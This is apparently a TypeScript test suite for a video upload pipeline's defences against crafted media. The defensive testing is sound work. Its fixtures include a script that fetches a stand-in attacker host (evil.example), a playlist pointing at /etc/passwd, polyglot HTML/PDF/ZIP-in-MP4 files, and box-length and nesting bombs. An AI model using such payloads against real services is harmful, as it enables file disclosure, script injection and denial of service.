import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { GetObjectCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
import { DamagedMedia } from '../../../functions/media/damaged-media.ts';
import { matroskaHead } from '../../../functions/media/matroska-head.ts';
import { rangedReader } from '../../../functions/media/ranged-reader.ts';
import {
  aviAround,
  box,
  boxStart,
  insertedAfterFtyp,
  patched,
  zipOf,
} from '../../kit/media/hostile-media.ts';
import { BUDGET, inspect } from '../../kit/media/memory-object.ts';
import { formats, sampleFile } from '../../kit/media/sample-files.ts';
import { row } from '../rows.ts';
import { type AttackTarget, attackTarget } from './attack-target.ts';
import { tally } from './state-texts.ts';

const film = readFileSync(
  join(import.meta.dirname, '..', '..', 'fixtures', 'media', 'sample_video_only.mp4'),
);

const MARK = 'reelgate-was-here';
const PAGE = `<html><script>fetch("//evil.example/?${MARK}")</script></html>`;
const PDF = `%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(${MARK})>>>>endobj\ntrailer<</Root 1 0 R>>`;
const PLAYLIST =
  '#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n';
const ZIP = zipOf('evil.html', PAGE);

describe('Through the whole pipeline', () => {
  let target: AttackTarget;

  beforeAll(async () => {
    target = await attackTarget();
  });

  afterAll(() => target?.close());

  it.each([
    ['a playlist of local files, named .mp4', () => Buffer.from(PLAYLIST), 'playlist_not_video'],
    ['a playlist inside an AVI', () => aviAround(PLAYLIST), 'type_mismatch'],
    ['a page before a video', () => Buffer.concat([Buffer.from(PAGE), film]), 'not_a_video'],
    ['a document before a video', () => Buffer.concat([Buffer.from(PDF), film]), 'not_a_video'],
    ['an archive before a video', () => Buffer.concat([ZIP, film]), 'not_a_video'],
    [
      'a video whose media stand in another file',
      () => patched(film, boxStart(film, 'url ') + 8, [0, 0, 0, 0]),
      'media_damaged',
    ],
    [
      'a picture of 65,535 by 65,535',
      () => patched(film, boxStart(film, 'avc1\0\0\0\0') + 32, [0xff, 0xff, 0xff, 0xff]),
      'dimensions_too_large',
    ],
  ])('%s ends rejected, and nothing is transcoded', async (_, file, code) => {
    const ended = await target.through(file());
    expect(ended).toMatchObject({ status: 'rejected', reason: { code } });
    const outputs = await outputsOf(ended.id);
    expect(outputs).toEqual([]);
    row(`${ended.status} ${ended.reason?.code}`, `${outputs.length} outputs`);
  });

  it.each([
    ['a page', () => insertedAfterFtyp(film, box('free', Buffer.from(PAGE)))],
    ['a document', () => insertedAfterFtyp(film, box('free', Buffer.from(PDF)))],
    ['an archive', () => Buffer.concat([film, box('free', ZIP)])],
    ['an archive, outside of its boxes', () => Buffer.concat([film, ZIP])],
  ])('a video that is also %s becomes a video that is nothing else', async (_, file) => {
    const bytes = file();
    expect(bytes.includes(MARK)).toBe(true);
    const ended = await target.through(bytes, 'film.mp4.html');
    expect({ status: ended.status, reason: ended.reason }).toEqual({ status: 'ready' });
    const outputs = await outputsOf(ended.id);
    expect(outputs.length).toBeGreaterThan(2);
    for (const { content, type } of outputs) {
      expect(content.includes(MARK)).toBe(false);
      expect(type).not.toMatch(/html|pdf|zip|javascript/);
    }
    const marked = outputs.filter(({ content }) => content.includes(MARK)).length;
    row(ended.status, `its mark in ${marked} of ${outputs.length} outputs`);
  });

  async function outputsOf(uploadId: string) {
    const Bucket = target.cloud.hosted.outputBucket;
    const Prefix = `videos/${uploadId}/`;
    const { Contents = [] } = await target.s3.send(new ListObjectsV2Command({ Bucket, Prefix }));
    return Promise.all(
      Contents.map(async ({ Key }) => {
        const { Body, ContentType } = await target.s3.send(new GetObjectCommand({ Bucket, Key }));
        const content = Buffer.from((await Body?.transformToByteArray()) ?? []);
        return { content, type: ContentType };
      }),
    );
  }
});

const mp4 = await sampleFile({ format: formats.mp4(), seconds: 3, sound: true });
const fragmented = await sampleFile({ format: formats.mp4Fragmented(), seconds: 3 });

const OUTCOMES =
  /^(accepted|media_damaged|not_a_video|media_too_complex|too_short|too_long|frame_rate_too_high|audio_only)$/;

/** The results for the files of a test, and the maximum cost of one file. */
let outcomes: string[] = [];
let most = { reads: 0, bytes: 0 };
beforeEach(() => {
  outcomes = [];
  most = { reads: 0, bytes: 0 };
});

async function outcome(bytes: Uint8Array, contentType?: string): Promise<string> {
  const { code, cost } = await inspect(bytes, contentType);
  expect(cost.reads).toBeLessThanOrEqual(BUDGET.reads);
  expect(cost.bytes).toBeLessThanOrEqual(BUDGET.bytes);
  outcomes.push(code);
  most = { reads: Math.max(most.reads, cost.reads), bytes: Math.max(most.bytes, cost.bytes) };
  return code;
}

function rowOfOutcomes(): void {
  row(tally(outcomes), `at most ${most.reads} reads, ${most.bytes} bytes`);
}

/** Every distinct box type in a file. */
const typesIn = (file: Uint8Array) =>
  ['ftyp', 'moov', 'mvhd', 'trak', 'tkhd', 'mdia', 'mdhd', 'hdlr', 'minf', 'dinf', 'dref', 'stbl']
    .concat([
      'stsd',
      'stts',
      'stsz',
      'stsc',
      'stco',
      'mdat',
      'moof',
      'traf',
      'tfhd',
      'trun',
      'mvex',
    ])
    .filter((type) => Buffer.from(file).includes(type));

/** Writes a box's length as 64 bits: a length of 1, and eight bytes after the type. */
const long = (length: bigint) => {
  const bytes = Buffer.alloc(8);
  bytes.writeBigUInt64BE(length);
  return bytes;
};

function withLength(file: Uint8Array, type: string, length: 0 | 1 | bigint): Buffer {
  const at = boxStart(file, type);
  const short = Buffer.alloc(4);
  short.writeUInt32BE(typeof length === 'bigint' ? 1 : length);
  const changed = patched(file, at, short);
  return typeof length === 'bigint' ? patched(changed, at + 8, long(length)) : changed;
}

describe('A box', () => {
  it.each(['ftyp', 'moov', 'trak', 'stbl', 'mdat'])(
    '%s that claims 2⁶⁴−1 bytes makes a damaged file',
    async (type) => {
      expect(await outcome(withLength(mp4, type, 2n ** 64n - 1n))).toBe('media_damaged');
      rowOfOutcomes();
    },
  );

  it.each([
    ['0', 0],
    ['1', 1],
    ['2⁶³', 2n ** 63n],
    ['2⁵³', 2n ** 53n],
    ['8', 8n],
  ] as const)(
    'of any type that claims a length of %s gets a result within the budget',
    async (_, length) => {
      for (const file of [mp4, fragmented]) {
        for (const type of typesIn(file)) {
          expect(await outcome(withLength(file, type, length))).toMatch(OUTCOMES);
        }
      }
      rowOfOutcomes();
    },
  );

  it('nested ten thousand levels deep never makes an accepted file', async () => {
    let deep: Buffer = Buffer.alloc(0);
    for (let level = 0; level < 10_000; level += 1) deep = box('trak', deep);
    const ftyp = box('ftyp', Buffer.from('isom\0\0\0\0isom'));
    expect(await outcome(Buffer.concat([ftyp, box('moov', deep)]))).toMatch(/^(not_a|media_)/);
    // The same next to a valid movie box, and inside it.
    expect(await outcome(Buffer.concat([mp4, deep]))).toMatch(OUTCOMES);
    rowOfOutcomes();
  });

  it('list of a hundred thousand on the top level is not read to its end', async () => {
    const many = Buffer.concat(Array.from({ length: 100_000 }, () => box('free')));
    const ftyp = box('ftyp', Buffer.from('isom\0\0\0\0isom'));
    expect(await outcome(Buffer.concat([ftyp, many, mp4]))).toMatch(/^media_/);
    rowOfOutcomes();
  });
});

/** The media header (version 0) of the first track: times and scale have four bytes each. */
function withMediaHeader(file: Uint8Array, timescale: number, duration?: number): Buffer {
  const at = boxStart(file, 'mdhd') + 8;
  expect(file[at]).toBe(0);
  const fields = Buffer.alloc(4);
  fields.writeUInt32BE(timescale);
  const scaled = patched(file, at + 12, fields);
  if (duration === undefined) return scaled;
  fields.writeUInt32BE(duration);
  return patched(scaled, at + 16, fields);
}

describe('A Matroska segment', () => {
  const header = Buffer.from('1a45dfa3904286810142f7810142f2810442f38108', 'hex');

  // Tested on the header reader alone: a demuxer does not return for such a file.
  it.each([
    ['ten thousand levels deep', 10_000],
    ['within another one', 2],
    ['without a track', 1],
  ])('%s is damaged before a demuxer sees it', async (_, levels) => {
    const open = Buffer.from('1853806701ffffffffffffff', 'hex');
    const file = Buffer.concat([header, ...Array.from({ length: levels }, () => open)]);
    const fetchRange = async (start: number, end: number) => file.subarray(start, end);
    const reader = rangedReader(file.length, fetchRange, BUDGET, () => 0);
    const error = await matroskaHead(reader).then(
      () => undefined,
      (thrown: unknown) => thrown,
    );
    expect(error).toBeInstanceOf(DamagedMedia);
    const { reads, bytes } = reader.cost();
    row(error instanceof Error ? error.message : '', `${reads} reads, ${bytes} bytes`);
  });
});

describe('A header', () => {
  it('with 65,535 by 65,535 pixels is rejected', async () => {
    const [width, height] = [65_535, 65_535];
    const vast = await sampleFile({ format: formats.mp4(), seconds: 1, width, height });
    expect(await outcome(vast)).toBe('dimensions_too_large');
    const webm = { format: formats.webm(), codec: 'vp9', seconds: 1, width, height } as const;
    expect(await outcome(await sampleFile(webm), 'video/webm')).toBe('dimensions_too_large');
    rowOfOutcomes();
  });

  it('with a million frames a second is rejected', async () => {
    const silent = await sampleFile({ format: formats.mp4(), seconds: 3 });
    const scale = timescaleOf(silent) * 40_000;
    expect(await outcome(withMediaHeader(silent, scale, scale))).toBe('frame_rate_too_high');
    rowOfOutcomes();
  });

  it('with a duration of a hundred years is rejected', async () => {
    const years = 100 * 365 * 86_400;
    expect(await outcome(withMediaHeader(mp4, 1, years))).toBe('too_long');
    rowOfOutcomes();
  });

  it.each([0, 0xffff_ffff])('with a time scale of %s gets a result', async (scale) => {
    expect(await outcome(withMediaHeader(mp4, scale))).toMatch(OUTCOMES);
    rowOfOutcomes();
  });
});

function timescaleOf(file: Uint8Array): number {
  return Buffer.from(file).readUInt32BE(boxStart(file, 'mdhd') + 20);
}
